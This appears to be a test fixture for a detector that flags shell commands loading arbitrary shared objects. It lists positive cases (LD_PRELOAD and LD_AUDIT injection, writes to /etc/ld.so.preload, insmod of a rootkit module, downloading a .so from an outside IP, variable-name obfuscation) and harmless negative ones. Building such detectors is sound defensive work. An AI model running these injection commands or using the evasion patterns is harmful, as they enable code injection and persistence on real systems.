#@ pos LD_PRELOAD before a command
LD_PRELOAD=/tmp/x.so ls
#@ pos export LD_PRELOAD
export LD_PRELOAD=/tmp/x.so
#@ pos the dynamic loader runs a program
/lib64/ld-linux-x86-64.so.2 /tmp/prog
#@ pos insmod
insmod /tmp/rootkit.ko
#@ neg LD_LIBRARY_PATH
LD_LIBRARY_PATH=/opt/lib ./app
#@ neg ldd
ldd /bin/ls
#@ neg the word in a string
echo "LD_PRELOAD is a loader variable"
#@ pos a shared object loaded as a builtin
enable -f /tmp/.lib.so stat2
#@ pos enable -f with other letters
enable -nf ./x.so x
#@ neg enable and disable builtins by name
enable -n echo
enable echo
#@ pos ssh-keygen loads a PKCS#11 provider
ssh-keygen -D /tmp/x.so
#@ neg ssh-keygen makes a key
ssh-keygen -t ed25519 -N '' -f ./deploy_key
#@ pos sqlite3 loads a shared object
sqlite3 :memory: '.load /tmp/x'
#@ pos sqlite3 loads an extension from a here-document
sqlite3 app.db <<'SQL'
SELECT load_extension('/tmp/x.so');
SQL
#@ neg sqlite3 imports a CSV
sqlite3 app.db <<'SQL'
.mode csv
.import data.csv items
SQL
#@ pos iconv loads a gconv module from GCONV_PATH
GCONV_PATH="$d" iconv -f X -t UTF-8 </dev/null
#@ pos LD_PRELOAD given through env
env LD_PRELOAD=/tmp/x.so ls
#@ neg env sets a locale
env LC_ALL=C sort file.txt
#@ pos openssl loads an engine from a shared object
openssl req -engine /tmp/x.so -new
#@ neg openssl uses the pkcs11 engine by name
openssl req -engine pkcs11 -new -key "pkcs11:object=key"
#@ pos openssl loads an engine whose path is built at run time
d=$(mktemp -d); cc -shared -o "$d/e.so" e.c; openssl req -engine "$d/e.so" -new
#@ neg openssl engine named by a constant in a variable
eng=pkcs11; openssl req -engine "$eng" -new -key "pkcs11:object=key"
#@ pos gawk -l of a downloaded extension found through AWKLIBPATH
AWKLIBPATH=/tmp/.awk gawk -l fmt 'BEGIN { print 1 }'
#@ pos gawk --load of a path
gawk --load=/tmp/x.so 'BEGIN {}'
#@ pos @load of a path in the program
gawk '@load "/tmp/x"; BEGIN { print 1 }'
#@ pos AWKLIBPATH exported
export AWKLIBPATH=/tmp/.awk
#@ neg gawk's own extension
gawk -l ordchr 'BEGIN { print chr(65) }'
#@ neg gawk @load of its time extension
gawk '@load "time"; BEGIN { print gettimeofday() }'
#@ pos a library downloaded under a soname, then found through LD_LIBRARY_PATH
d=$(mktemp -d)
curl -fsSL -o "$d/libz.so.1" http://203.0.113.17/libz.so.1
LD_LIBRARY_PATH=$d curl --version
#@ pos wget saves a library under its URL's name
wget -q -P "$lib" http://198.51.100.140/pkg/libcrypto.so.3
#@ pos a download redirected into a .so file
curl -fsS http://203.0.113.230/m >~/.cache/libnss_files.so.2
#@ neg a site on the .so domain
curl -fsS https://api.notion.so/v1/users/me -H "Authorization: Bearer $NOTION_TOKEN"
#@ pos LD_PRELOAD's name built by reassigning a variable from itself
v=PRE
v="LD_${v}LOAD"
env "$v=$work/libt.so" date
#@ pos LD_AUDIT's name in a variable, exported with a value known at run time
k=LD_AUDIT
export "$k=$lib"
#@ pos the name and the value as two quoted pieces
printf -v n 'LD_%s' PRELOAD
env "$n"="$so" id
#@ neg a locale variable named by a value
k=LANG
env "$k=$loc" sort f
#@ pos a JVM agent from a shared object
export JAVA_TOOL_OPTIONS="-agentpath:/tmp/libx.so"
java -agentpath:"$lib"=start -jar app.jar
env _JAVA_OPTIONS=-agentpath:/tmp/y.so mvn package
#@ neg the JDK's debugger agent and a Java agent jar
export JAVA_TOOL_OPTIONS="-agentlib:jdwp=transport=dt_socket,server=y,suspend=n -Xmx2g"
java -javaagent:/opt/otel/agent.jar -jar app.jar
#@ pos ruby's Fiddle.dlopen
ruby -rfiddle -e 'Fiddle.dlopen("/tmp/x.so")'
#@ pos ruby's Fiddle::Handle
ruby -e 'require "fiddle"; Fiddle::Handle.new(ARGV[0])' /tmp/x.so
#@ pos perl's DynaLoader
perl -MDynaLoader -e 'DynaLoader::dl_load_file("/tmp/x.so")'
#@ pos tcl's load from a here-string
tclsh <<< 'load /tmp/x.so'
#@ neg Fiddle's version, a ruby load of a .rb file named load_config
ruby -rfiddle -e 'puts Fiddle::VERSION'
ruby -e 'load_config = 1; puts load_config'
#@ pos tee writes the loader's preload list
echo /opt/x/libx.so | sudo tee -a /etc/ld.so.preload
#@ pos a redirection into the loader's preload list
printf '%s\n' "$lib" >> /etc/ld.so.preload
#@ neg the preload list read
cat /etc/ld.so.preload
tee -a /etc/ld.so.conf.d/app.conf <<< /opt/app/lib
#@ pos a shared object loaded into lua by package.loadlib
lua -e 'package.loadlib("/tmp/x.so", "luaopen_x")()'
#@ pos the same from a here-document
lua - <<'LUA'
local f = package.loadlib(os.getenv("HOME") .. "/x.so", "luaopen_x")
f()
LUA
#@ pos a shared object loaded by luajit's ffi
luajit -e 'local ffi = require("ffi"); ffi.load("/tmp/x.so")'
#@ neg lua requiring a module, printing its version
lua -e 'local json = require("cjson"); print(json.encode({1}))'
lua -v
#@ pos R loads a shared object
Rscript -e 'dyn.load("/tmp/x.so")'
#@ pos julia opens a shared object
julia -e 'using Libdl; Libdl.dlopen("/tmp/x.so")'
#@ pos guile loads an extension
guile -c '(load-extension "/tmp/libx" "init_x")'
#@ neg R code that reads a file
Rscript -e 'x <- read.csv("d.csv"); summary(x)'
#@ neg julia prints the library suffix
julia -e 'using Libdl; println(Libdl.dlext)'
#@ pos ssh-add hands a PKCS#11 provider to the agent
ssh-add -s /tmp/libtok.so
#@ pos ssh loads a provider given with -I
ssh -I "$HOME/.cache/p.so" deploy@h.example true
#@ pos scp loads a provider given as an option
scp -o "PKCS11Provider=/tmp/p.so" a.txt deploy@h.example:
#@ neg a provider the system installed
ssh -I /usr/lib/x86_64-linux-gnu/opensc-pkcs11.so deploy@h.example true
ssh-add -s /usr/lib/x86_64-linux-gnu/opensc-pkcs11.so
#@ neg ssh-add adds a key and lists them
ssh-add -t 3600 ~/.ssh/id_deploy
ssh-add -l
#@ neg the loader listing the libraries of a program, as ldd does
/lib64/ld-linux-x86-64.so.2 --list /bin/true
#@ pos openssl's dynamic engine loading the shared object SO_PATH names
openssl engine -t dynamic -pre SO_PATH:/tmp/libx.so -pre LOAD
#@ pos the SO_PATH control with a path from a variable
openssl engine dynamic -pre "SO_PATH:$lib" -pre LOAD
#@ neg listing openssl's engines and testing a built-in one
openssl engine -t -c
openssl engine -t rdrand
